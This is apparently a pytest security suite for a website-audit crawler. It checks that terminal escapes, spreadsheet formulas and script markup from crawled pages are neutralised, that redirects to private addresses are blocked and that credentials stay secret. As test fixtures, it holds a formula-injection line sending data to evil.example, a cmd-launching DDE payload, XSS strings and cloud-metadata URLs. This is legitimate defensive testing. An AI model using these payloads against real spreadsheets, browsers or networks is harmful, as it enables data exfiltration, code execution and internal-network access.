"""Security: nothing a crawled page contains may harm the person reading the output,
the crawler must not become a way into an internal network, and credentials stay secret.

The `faults-hostile` site puts terminal escape sequences (CSI, OSC, 8-bit C1),
spreadsheet formulas and HTML/script markup into titles and link texts.  Each
output (terminal tables, CSV, JSON lines, the HTML report and its CSV/JSON
exports) is checked for what would reach the reader.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from scrapy.http import HtmlResponse, Request

from crawl_helpers import FAST, ROOT, Run, crawl, run_cli
from fault_server import FaultHandler, serve_faults
from server import serve_scenario
from siteaudit.cli import main
from siteaudit.model import Outcome
from siteaudit_crawler.items import CheckItem
from spider_offline import drain, offline_spider

SITES = Path(__file__).parent / "sites"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ESCAPES = ("\x1b", "\x9b", "\x07", "\x9d")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    server = serve_scenario(SITES / "faults-hostile")
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    proc = crawl(db, server.origin + "/")
    yield db, server, proc
    server.stop()


def cli(*args):
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_the_hostile_text_is_stored_as_is(hostile):
    # The database keeps the evidence verbatim; only outputs neutralise it.
    db, _, _ = hostile
    texts = [r[0] for r in sqlite3.connect(str(db)).execute("SELECT text FROM links")]
    assert any("\x1b[31m" in t for t in texts) and any(t.startswith("=HYPERLINK") for t in texts)


@pytest.mark.parametrize("command", [["links"], ["contacts"], ["findings"]])
def test_terminal_tables_strip_control_and_escape_sequences(hostile, command):
    db, _, _ = hostile
    out = cli(*command, "--db", str(db))
    assert not any(c in out for c in ESCAPES), repr(out)
    if command == ["links"]:
        assert "red alert +1 page" in out  # the text stays, its colour codes go


def test_crawl_summary_is_clean(hostile):
    _, _, proc = hostile
    assert not any(c in proc.stdout + proc.stderr for c in ESCAPES)


def _csv_cells(text: str):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("command", [["links"], ["contacts"], ["findings"]])
def test_csv_neutralises_formula_injection(hostile, command):
    db, _, _ = hostile
    cells = _csv_cells(cli(*command, "--db", str(db), "--format", "csv"))
    bad = [c for c in cells if c.startswith(FORMULA_START) and not c.startswith("+1")]
    assert bad == []
    if command == ["links"]:
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"503-555-0100\")" in cells
        assert "'@SUM(1+1)*cmd|'/C calc'!A0" in cells


def test_csv_has_no_escape_sequences(hostile):
    db, _, _ = hostile
    out = cli("links", "--db", str(db), "--format", "csv")
    assert not any(c in out for c in ESCAPES)


def test_json_lines_are_valid_and_escape_c0_controls(hostile):
    db, _, _ = hostile
    out = cli("links", "--db", str(db), "--format", "json")
    rows = [json.loads(line) for line in out.splitlines()]
    assert any("\x1b[31m" in s["text"] for r in rows for s in r["sources"])  # the value survives a round trip
    assert "\x1b" not in out and "\x07" not in out  # ... as \u001b, never raw


def test_json_lines_escape_c1_controls(hostile):
    db, _, _ = hostile
    out = cli("links", "--db", str(db), "--format", "json")
    assert "\x9b" not in out


@pytest.fixture(scope="module")
def report_dir(hostile, tmp_path_factory):
    db, _, _ = hostile
    out = tmp_path_factory.mktemp("report") / "r"
    result = CliRunner().invoke(main, ["report", "--db", str(db), "--out", str(out)])
    if result.exit_code != 0:
        pytest.skip(f"report command unavailable: {result.output[:200]}")
    return out


def test_html_report_escapes_crawled_markup(report_dir):
    pages = list(report_dir.rglob("*.html"))
    assert pages
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert(1)</script>" not in html, page
        assert "<img src=x onerror" not in html, page
        assert 'href="javascript:' not in html.lower(), page
    joined = "".join(p.read_text(encoding="utf-8") for p in pages)
    assert "&lt;img src=x onerror=alert(1)&gt;" in joined  # shown as text, not run


def test_report_csv_exports_neutralise_formulas(report_dir):
    for path in report_dir.rglob("*.csv"):
        cells = _csv_cells(path.read_text(encoding="utf-8"))
        bad = [c for c in cells if c.startswith(FORMULA_START) and not c.lstrip("+").replace(";ext=", "").isdigit()]
        assert bad == [], path


def test_report_exports_have_no_escape_sequences(report_dir):
    # Fixed in report/export.py (99352cc) after this test found ESC sequences in data/*.csv.
    for path in [*report_dir.rglob("*.csv"), *report_dir.rglob("*.json")]:
        assert not any(c in path.read_text(encoding="utf-8") for c in ESCAPES), path


# -- the private-address guard on redirects (no network: the spider decides) ---------------


def _redirect(spider, location, url="https://www.example.gov/old"):
    meta = spider._meta(url, "page", 0, "GET")
    request = Request(url, meta=meta)
    response = HtmlResponse(url, status=302, headers={"Location": location}, body=b"", request=request)
    return drain(spider.on_response(response))


@pytest.mark.parametrize("location", ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1/admin",
                                      "http://[::1]:8080/", "http://10.0.0.5/", "http://intranet.local/"])
def test_a_public_page_redirecting_to_a_private_address_is_not_followed(location):
    spider = offline_spider(start_urls="https://www.example.gov/")
    out = _redirect(spider, location)
    assert len(out) == 1 and isinstance(out[0], CheckItem)
    check = out[0].check
    assert check.outcome == Outcome.EXCLUDED and "private or loopback" in check.reason
    assert check.chain[-1]["url"].startswith(location.split("/")[0])


def test_the_redirect_is_followed_when_private_addresses_are_allowed():
    spider = offline_spider(start_urls="https://www.example.gov/", allow_private=True)
    out = _redirect(spider, "http://169.254.169.254/latest/meta-data/")
    assert len(out) == 1 and isinstance(out[0], Request)
    assert out[0].url == "http://169.254.169.254/latest/meta-data/"


# -- credentials -------------------------------------------------------------------------


def test_basic_auth_goes_to_the_site_only_and_is_never_stored_or_printed(tmp_path):
    user, password = FaultHandler.credentials
    token = base64.b64encode(f"{user}:{password}".encode()).decode()
    other = serve_faults(SITES / "guard")
    site_folder = tmp_path / "site"
    site_folder.mkdir()
    ext = f"http://localhost:{other.port}"
    (site_folder / "index.html").write_text(
        '<!doctype html><title>Intranet</title>'
        '<a href="/_f/auth">members</a> <a href="/_f/headers">own host</a> '
        f'<a href="{ext}/_f/headers">partner</a> '
        f'<a href="/_/redirect-to?url={ext}/_f/headers?via=redirect">partner via redirect</a>', encoding="utf-8")
    server = serve_faults(site_folder)
    try:
        db = tmp_path / "auth.db"
        proc = subprocess.run([sys.executable, "-m", "siteaudit", "-vv", "crawl", server.origin + "/", "--db", str(db),
                               *FAST, "--timeout", "5", "--no-rules"], capture_output=True, text=True, timeout=120,
                              cwd=str(ROOT), env={**os.environ, "SITEAUDIT_AUTH": f"{user}:{password}"})
        assert proc.returncode == 0, proc.stderr
        run = Run(db)
        assert run.check(server.origin + "/_f/auth")["outcome"] == "ok"  # 401 without the credentials
        assert server.origin + "/_f/auth-inner" in run.pages()
        seen = server.httpd.RequestHandlerClass.seen_auth
        seen_ext = other.httpd.RequestHandlerClass.seen_auth
        assert seen[f"127.0.0.1:{server.port}/_f/headers"] is True
        assert seen_ext[f"localhost:{other.port}/_f/headers"] is False  # another host never gets them
        assert seen_ext[f"localhost:{other.port}/_f/headers?via=redirect"] is False  # nor a redirect off the site
        dump = "\n".join(sqlite3.connect(str(db)).iterdump())
        for secret in (password, token, f"{user}:{password}"):
            assert secret not in dump
            assert secret not in proc.stdout and secret not in proc.stderr
    finally:
        server.stop()
        other.stop()


@pytest.mark.parametrize("allow", [False, True])
def test_a_public_name_resolving_to_a_private_address_is_not_fetched_unless_allowed(tmp_path, allow):
    folder = tmp_path / "site"
    folder.mkdir()
    server = serve_faults(folder)
    (folder / "index.html").write_text(
        f'<!doctype html><title>Links</title><a href="http://rebind.example.gov:{server.port}/_f/headers">partner</a>',
        encoding="utf-8")
    try:
        db = tmp_path / "rebind.db"
        env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(Path(__file__).parent), os.environ.get(
            "PYTHONPATH", "")])}
        proc = subprocess.run([sys.executable, "-m", "siteaudit", "crawl", server.origin + "/", "--db", str(db), *FAST,
                               "--timeout", "5", "--no-rules", "--allow-private" if allow else "--deny-private",
                               "-s", "TWISTED_DNS_RESOLVER=offline_resolver.OfflineResolver"],
                              capture_output=True, text=True, timeout=120, cwd=str(ROOT), env=env)
        assert proc.returncode == 0, proc.stderr
        check = Run(db).check(f"http://rebind.example.gov:{server.port}/_f/headers")
        reached = f"rebind.example.gov:{server.port}/_f/headers" in server.httpd.RequestHandlerClass.seen_auth
        if allow:
            assert check["outcome"] == "ok" and reached
        else:
            assert check["outcome"] == "excluded" and "resolves to a private or loopback address" in check["reason"]
            assert not reached  # no connection was made
    finally:
        server.stop()


def test_no_code_execution_endpoint_is_opened(tmp_path):
    """Scrapy >= 2.19 starts a remote-control HTTP server that runs Python code sent to it
    (RemoteControl extension); an audit run from cron must not expose one."""
    site = serve_scenario(SITES / "basic")
    try:
        proc = run_cli("-v", "crawl", site.origin + "/", "--db", str(tmp_path / "r.db"), *FAST, "--max-pages", "2")
    finally:
        site.stop()
    assert proc.returncode == 0, proc.stderr
    assert "Enabled extensions" in proc.stderr  # the log that would name it is there
    assert "RemoteControl" not in proc.stderr and "Remote control" not in proc.stderr
